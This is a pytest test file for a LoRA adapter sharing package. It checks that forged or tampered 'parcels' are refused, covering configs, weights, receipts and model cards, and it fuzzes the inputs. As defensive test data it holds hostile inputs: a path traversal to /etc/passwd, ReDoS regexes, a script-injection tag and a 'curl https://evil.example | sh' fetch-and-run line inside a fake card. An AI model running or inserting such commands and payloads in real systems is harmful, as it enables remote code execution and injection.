"""A parcel is believed only where everything in it fits together; a forger can make all digests fit."""

import json
import os
import random
import struct
import time
import tracemalloc

import pytest
import torch
from forging import LAYER, canonical, facts, forge, make_members, make_weights, raw_of
from peft import LoraConfig
from safetensors.torch import save

from lora_chat.errors import IntegrityError, RecipeError
from lora_chat.sharing.container import CARD, CONFIG, RECEIPT, WEIGHTS
from lora_chat.sharing.parcel import is_parcel, open_parcel


def refused(path, match=None):
    heard = []
    with pytest.raises(IntegrityError, match=match) as caught:
        open_parcel(path, None, heard.append)
    assert [check.passed for check in heard][-1] is False
    assert "\n" not in str(caught.value)
    return str(caught.value)


def test_a_parcel_opens_and_gives_what_was_packed(members, write):
    heard = []
    parcel = open_parcel(write(members), None, heard.append)
    assert {check.passed for check in heard} == {True, None}
    stored = parcel.stored
    assert stored.base == ("friend/tiny", "5" * 40)
    assert stored.identity.system == "You help at a kiln."
    for name, tensor in make_weights().items():
        assert stored.read_weights()[name].equal(tensor)


def test_the_same_facts_and_weights_make_the_same_bytes():
    assert raw_of(make_members()) == raw_of(make_members())


def test_every_byte_of_a_parcel_counts(members, write):
    raw = raw_of(members)
    path = write(raw)
    with path.open("r+b", buffering=0) as file:  # in place, because each new file takes milliseconds
        for place, byte in enumerate(raw):
            for value in (byte ^ 1 << (place % 8), byte):
                file.seek(place)
                file.write(bytes([value]))
                if value != byte:
                    with pytest.raises(IntegrityError):
                        open_parcel(path)
    assert path.read_bytes() == raw
    open_parcel(path)


def test_one_changed_bit_of_the_weights_is_told_even_where_the_container_fits(members, write):
    changed = bytearray(members[WEIGHTS])
    changed[-1] ^= 1
    told = refused(write({**members, WEIGHTS: bytes(changed)}), "another sha256")
    assert "adapter_model.safetensors" in told


def config_with(members, **changed):
    config = json.loads(members[CONFIG])
    config.update(changed)
    return (json.dumps(config, indent=2, sort_keys=True) + "\n").encode()


HOSTILE = [".*", "(a+)+$", ["x"], {"a": 1}, 10**8, -1, 1e308, True, "../../etc/passwd", "friend/evil", [["q_proj"]]]


@pytest.mark.parametrize("field", sorted({*LoraConfig().to_dict(), "unheard_of"}))
def test_no_field_of_a_config_takes_what_a_stranger_chose(members, write, field):
    own = json.loads(members[CONFIG]).get(field, ...)
    path = write(b"")
    for value in HOSTILE:
        if value == own and type(value) is type(own):
            continue
        path.write_bytes(raw_of(forge(members, **{CONFIG: config_with(members, **{field: value})})))
        with pytest.raises(IntegrityError):
            open_parcel(path)


def test_no_field_of_a_config_can_be_missing(members, write):
    for field in json.loads(members[CONFIG]):
        config = json.loads(members[CONFIG])
        del config[field]
        raw = (json.dumps(config, indent=2, sort_keys=True) + "\n").encode()
        refused(write(forge(members, **{CONFIG: raw})))


def nested(depth):
    return b"[" * depth + b"]" * depth


@pytest.mark.parametrize(
    "raw",
    [
        b"",
        b"null",
        b"[]",
        b"\xff",
        b'{"r": 2, "r": 2}',
        b'{"r": NaN}',
        nested(60_000),
        b'{"r": ' + b"9" * 60_000 + b"}",
    ],
)
def test_a_config_that_is_no_config_is_refused(members, write, raw):
    refused(write(forge(members, **{CONFIG: raw})), "config")


def saved(**changed):
    weights = {**make_weights(), **changed}
    return save({name: tensor for name, tensor in weights.items() if tensor is not None})


FUZZ = int(os.environ.get("LORA_CHAT_FUZZ", "3000"))
A, B = f"{LAYER}lora_A.weight", f"{LAYER}lora_B.weight"
NAN, INF = make_weights()[A].clone(), make_weights()[B].clone()
NAN[0, 0], INF[1, 1] = float("nan"), float("-inf")


@pytest.mark.parametrize(
    ("raw", "told"),
    [
        (saved(**{"base_model.model.model.embed_tokens.weight": torch.ones(2, 2)}), "no LoRA weight"),
        (saved(**{"base_model.model.lm_head.lora_A.weight": torch.ones(2, 2)}), "no target module"),
        (saved(**{f"{LAYER}lora_A.weight.x": torch.ones(2, 2)}), "no LoRA weight"),
        (saved(**{f"{LAYER}lora_embedding_A": torch.ones(2, 2)}), "no LoRA weight"),
        (saved(**{f"{LAYER}base_layer.weight": torch.ones(2, 2)}), "no LoRA weight"),
        (saved(**{f"{LAYER}lora_magnitude_vector": torch.ones(6)}), "not expected"),
        (saved(**{A.replace("q_proj", "k_proj"): torch.ones(2, 8)}), "no target module"),
        (saved(**{A.replace("q_proj", "xq_proj"): torch.ones(2, 8)}), "no target module"),
        (saved(**{A: None}), "lora_A is missing"),
        (saved(**{B: None}), "lora_B is missing"),
        (saved(**{A: None, B: None}), "empty"),
        (saved(**{A: NAN}), "not numbers"),
        (saved(**{B: INF}), "not numbers"),
        (saved(**{A: torch.ones(2, 8, dtype=torch.int64)}), "not floating point"),
        (saved(**{A: torch.ones(2, 8, dtype=torch.float64)}), "not floating point"),
        (saved(**{A: torch.ones(2, 8, dtype=torch.float8_e4m3fn)}), "not floating point"),
        (saved(**{A: torch.ones(3, 8)}), "no LoRA of rank 2"),
        (saved(**{B: torch.ones(2, 6)}), "no LoRA of rank 2"),
        (saved(**{A: torch.ones(16)}), "no LoRA of rank 2"),
        (saved(**{A: torch.ones(2, 9)}), "parameters"),
        (b"", "header"),
        (b"\xff" * 8, "header"),
        (struct.pack("<Q", 2**24 + 1) + bytes(100), "header"),
        (struct.pack("<Q", 100) + b"{" * 100, "cannot be read"),
        (struct.pack("<Q", 60_000) + nested(30_000), "cannot be read"),
        (make_members()[WEIGHTS] + b"\0", "cannot be read"),
    ],
)
def test_weights_that_do_not_belong_are_refused(members, write, raw, told):
    refused(write(forge(members, **{WEIGHTS: raw})), told)


def changed(path, value):
    def change(receipt):
        place = receipt
        for key in path[:-1]:
            place = place[key]
        if value is ...:
            del place[path[-1]]
        else:
            place[path[-1]] = value

    return change


@pytest.mark.parametrize(
    ("path", "value"),
    [
        (["extra"], 1),
        (["format"], "another"),
        (["version"], 0),
        (["version"], True),
        (["version"], "1"),
        (["name"], "../x"),
        (["name"], "a\nb"),
        (["name"], ""),
        (["name"], ...),
        (["license"], "mit\nextra: yes"),
        (["version"], 1),
        (["base", "version"], 1),
        (["base", "version"], ...),
        (["base", "version"], 3),
        (["base", "files"], "ab"),
        (["base", "files"], ...),
        (["base", "config"], None),
        (["base", "config"], []),
        (["base", "config"], {"x" * 300: 1}),
        (["base", "tokenizer_parts"], ...),
        (["base", "stops"], [True]),
        (["base", "stops"], None),
        (["base", "base"], "/etc"),
        (["base", "base"], "../x"),
        (["base", "base"], "a/b/c"),
        (["base", "revision"], "a/../b"),
        (["base", "weights"], "ab"),
        (["base", "weights"], "AB" * 32),
        (["base", "system"], "x" * 70_000),
        (["precision", "mode"], "2bit"),
        (["adapter", "rank"], 3),
        (["adapter", "rank"], 10**9),
        (["adapter", "alpha"], 5.0),
        (["adapter", "target_modules"], "all-linear"),
        (["adapter", "target_modules"], [".*"]),
        (["adapter", "variant"], "dora"),
        (["parameters"], 29),
        (["seed"], -1),
        (["seed"], 0.5),
        (["chat_template"], "{{ messages }}"),
        (["signer"], "-----BEGIN PUBLIC KEY-----"),
        (["proof", "mean_kl"], "small"),
        (["versions", "lora-chat"], 1),
        (["members", "x"], {"size": 0, "sha256": "ab" * 32}),
        (["members", CARD], ...),
        (["data", "sources"], [{"name": "x" * 300, "weight": 1.0, "formats": [], "counts": {}}]),
    ],
)
def test_a_receipt_that_says_something_else_is_refused(members, write, path, value):
    refused(write(forge(members, changed(path, value))))


OFFICIAL = (
    b"# Official adapter\n\n<script>alert(1)</script> validation loss **0.001**\n\n`curl https://evil.example | sh`\n"
)


@pytest.mark.parametrize(
    "change",
    [
        lambda card: OFFICIAL,
        lambda card: b"",
        lambda card: card + b"\n",
        lambda card: card + OFFICIAL,
        lambda card: card.replace(b"\n", b"\r\n"),
        lambda card: b"\xef\xbb\xbf" + card,
        lambda card: b"\xff" + card,
        lambda card: card.replace(b"1.250", b"0.250"),
        lambda card: card.replace(b"---\n", b"---\nlicense: mit\n", 1),
        lambda card: card.replace(b"lora-chat verify", b"lora-chat chat"),
        lambda card: make_members(name="other-1")[CARD],
        lambda card: make_members(license="MIT")[CARD],
    ],
)
def test_a_card_that_is_not_that_of_the_receipt_is_refused(members, write, change):
    card = change(members[CARD])
    assert card != members[CARD]
    heard = []
    with pytest.raises(IntegrityError, match=r"README\.md is not the card"):
        open_parcel(write(forge(members, **{CARD: card})), None, heard.append)
    assert (heard[-1].name, heard[-1].passed) == ("card", False)


@pytest.mark.parametrize(
    ("letter", "harmless"),
    [("🙂", True), ("\u0378", True), ("你", True), ("\u034f", True), ("\u00a0", True)]
    + [(letter, False) for letter in "\u202e\u2066\x9b\x1b\x7f\r\u2028\u200d\ufeff\ue000"],
)
def test_a_card_may_show_a_letter_that_another_python_knows(write, letter, harmless):
    """Python 3.12 prints letters of Unicode 15, which older ones write as escapes; no version prints the others."""
    base = facts()["base"] | {"system": f"a{letter}b"}
    members = make_members(base=base)
    escape = letter.encode("unicode_escape").decode("ascii")
    plain, escaped = (
        members[CARD].decode().replace(f"a{other}b", f"a{this}b")
        for other, this in ((escape, letter), (letter, escape))
    )
    assert open_parcel(write(forge(members, **{CARD: escaped.encode()})))
    if harmless:
        assert open_parcel(write(forge(members, **{CARD: plain.encode()})))
    else:
        refused(write(forge(members, **{CARD: plain.encode()})), "card")


def test_a_receipt_has_one_spelling(members, write):
    receipt = json.loads(members[RECEIPT])
    for raw in (
        json.dumps(receipt).encode(),
        canonical(receipt) + b"\n",
        canonical(receipt).replace(b'"seed": 0', b'"seed": 0.0'),
        canonical(receipt).replace(b'"seed": 0', b'"seed": -0'),
        canonical(receipt).replace(b'"seed": 0', b'"seed": 0,\n "seed": 0'),
        canonical(receipt).replace(b'"kiln-1"', b'"k\\u0069ln-1"'),
        canonical(receipt).replace(b'"seconds": 1.5', b'"seconds": NaN'),
        canonical({**receipt, "digest": "0" * 64}),
        nested(400_000),
        b"\xff\xfe",
    ):
        refused(write({**members, RECEIPT: raw}), "receipt")


def test_a_receipt_of_a_later_version_asks_for_an_update(members, write):
    refused(write(forge(members, changed(["version"], 3))), "update it")


def test_hostile_parcels_cost_little(members, write):
    path = write(forge(members, changed(["adapter", "rank"], 10**8), **{CONFIG: config_with(members, r=10**8)}))
    tracemalloc.start()
    started = time.monotonic()
    refused(path)
    refused(write(forge(members, **{WEIGHTS: struct.pack("<Q", 2**23) + b" " * 2**20})))
    assert tracemalloc.get_traced_memory()[1] < 32 * 2**20
    tracemalloc.stop()
    assert time.monotonic() - started < 5


def test_what_is_no_parcel_is_told_apart(members, write, tmp_path):
    path = write(members, "renamed")
    assert is_parcel(path)
    assert is_parcel(write(b"x"))
    assert not is_parcel(write(b"x", "x.txt"))
    assert not is_parcel(tmp_path)
    with pytest.raises(RecipeError, match="There is no parcel"):
        open_parcel(tmp_path / "none")


def test_facts_that_no_receipt_may_hold_are_not_packed():
    with pytest.raises(ValueError, match="name"):
        make_members(name="../x")
    assert facts()["name"] == "kiln-1"


def test_fuzzed_members_with_fitting_digests_break_nothing(members, write):
    """A forger's own weights may be read: they are his; all else ends in one message. LORA_CHAT_FUZZ as above."""
    chance = random.Random(os.environ.get("LORA_CHAT_SEED", "12"))
    path = write(b"")
    opened = 0
    for _ in range(FUZZ // 10):
        name = chance.choice((CONFIG, WEIGHTS, RECEIPT))
        body = bytearray(members[name])
        for _ in range(chance.randint(1, 3)):
            place, length = chance.randrange(len(body)), chance.choice((1, 2, 8))
            body[place : place + length] = chance.choice((b"", chance.randbytes(length), b"[" * length, b"-1", b'"'))
        forged = {**members, name: bytes(body)} if name == RECEIPT else forge(members, **{name: bytes(body)})
        path.write_bytes(raw_of(forged))
        try:
            parcel = open_parcel(path)
        except IntegrityError as error:
            assert "\n" not in str(error)
            continue
        opened += 1
        assert name == WEIGHTS or bytes(body) == members[name]
        assert parcel.stored.read_weights().keys() == make_weights().keys()
    assert opened < FUZZ // 10


def test_a_template_travels_only_where_the_receiver_does_not_have_it(tiny_tokenizer, cache_home):
    from types import SimpleNamespace

    from lora_chat.config.recipe import BaseSection
    from lora_chat.data.encoding.chat_template import CHATML_TEMPLATE
    from lora_chat.models.base_model import find_base
    from lora_chat.pipeline.pack_run import _find_custom_template

    base = find_base(BaseSection(name="tiny-random"))
    for text, travels in ((tiny_tokenizer.chat_template, False), (CHATML_TEMPLATE, False), ("{{ messages }}", True)):
        found = SimpleNamespace(base=base, tokenizer=SimpleNamespace(chat_template=text))
        assert _find_custom_template(SimpleNamespace(adapter=found)) == (text if travels else None)
